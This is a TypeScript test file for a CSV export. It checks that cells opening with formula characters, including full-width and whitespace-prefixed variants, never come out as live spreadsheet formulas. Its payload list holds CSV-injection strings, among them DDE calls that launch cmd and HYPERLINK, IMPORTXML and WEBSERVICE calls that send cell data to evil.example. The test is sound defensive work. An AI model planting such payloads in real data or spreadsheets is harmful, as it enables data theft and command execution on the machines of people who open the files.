import { PassThrough } from 'node:stream'
import { text } from 'node:stream/consumers'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { openBase, type ABase } from './a-base.ts'

let base: ABase
beforeAll(() => {
  base = openBase()
})
afterAll(() => base.close())

/** With these a spreadsheet begins a formula, some only in full width, some only once blanks are taken off. */
const signs = [
  '=',
  '+',
  '-',
  '@',
  '\t=',
  '\r=',
  '\n=',
  ' =',
  '  +',
  '＝',
  '＋',
  '－',
  '＠',
  '\t',
  '|',
  '%0A=',
]
const tails = [
  '1+1',
  'cmd|"/C calc"!A0',
  'HYPERLINK("https://evil.example?x="&A1,"here")',
  'IMPORTXML("https://evil.example","//a")',
  'WEBSERVICE("https://evil.example")',
  'DDE("cmd";"/C calc";"x")',
  'SUM(1;1)*cmd|x!A0',
  '@SUM(1)',
  '-1',
  '1e5',
  'inf',
  'nan',
  '1_000',
]
const payloads = signs.flatMap((sign) => tails.map((tail) => sign + tail))
const quoted = (cell: string) => `"${cell.replaceAll('"', '""')}"`
/** What a spreadsheet would work out: a number is one, whatever its sign. */
const isFormula = (cell: string) =>
  /^\s*[=+\-@\t\r\n\0＝＋－＠]/.test(cell) && !/^-?\d*\.?\d+(e-?\d+)?$/.test(cell)

test(`of ${payloads.length} cells that would be formulas none comes out as one, in any column and in the header`, async () => {
  const names = signs.map((sign, at) => `${sign}SUM(${at})`)
  const rows = payloads.map((one, at) => {
    const cells = [`${at}${one}`, 'customer', one, one, ...names.map(() => one)]
    return cells.map(quoted).join()
  })
  const header = ['id', 'type', 'language', 'consent', ...names].map(quoted).join()
  const { rows: taken } = await base.take('people', [header, ...rows])
  expect(taken).toBe(payloads.length)
  const bought = await base.take('purchases', [
    'person,date,category,brand,quantity,amount',
    ...payloads.map((one, at) => [`${at}${one}`, '2026-01-05', one, one, '1', '2.5'].map(quoted).join()),
  ])
  expect(bought).toMatchObject({ rows: payloads.length, refused: [] })
  for (const what of ['people', 'purchases'] as const) {
    const out = new PassThrough()
    const [csv] = await Promise.all([text(out), base.consumers.exports.write('d1', what, out)])
    // Every text of ours stands in quotes.
    const cells = [...csv.matchAll(/"((?:[^"]|"")*)"/g)].map(([, cell = '']) => cell.replaceAll('""', '"'))
    expect(cells.length).toBeGreaterThanOrEqual(payloads.length * 3)
    expect([what, cells.filter(isFormula)]).toEqual([what, []])
  }
})
